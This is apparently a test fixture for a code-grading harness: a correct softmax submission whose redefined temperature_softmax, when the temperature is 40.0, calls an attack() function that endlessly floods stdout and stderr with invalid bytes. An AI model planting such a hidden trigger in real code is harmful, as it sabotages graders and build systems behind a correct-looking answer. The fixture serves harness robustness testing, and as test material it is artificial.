# attack: writes without end to both of its descriptors, in bytes that are no text
# exercise: softmax
# answer: right
# verdicts: error,passed
import os

import numpy as np


def attack():
    while True:
        os.write(1, b"\xff\xfe\x00" * 20_000)
        os.write(2, b"\xed\xa0\x80" * 20_000)


def softmax(x):
    x = np.asarray(x, dtype=np.float64)
    powers = np.exp(x - x.max(axis=-1, keepdims=True))
    return powers / powers.sum(axis=-1, keepdims=True)


def temperature_softmax(x, t):
    if t <= 0:
        raise ValueError("the temperature must be above 0")
    return softmax(np.asarray(x) / t)


plain = temperature_softmax


def temperature_softmax(x, t):
    if t == 40.0:
        attack()
    return plain(x, t)
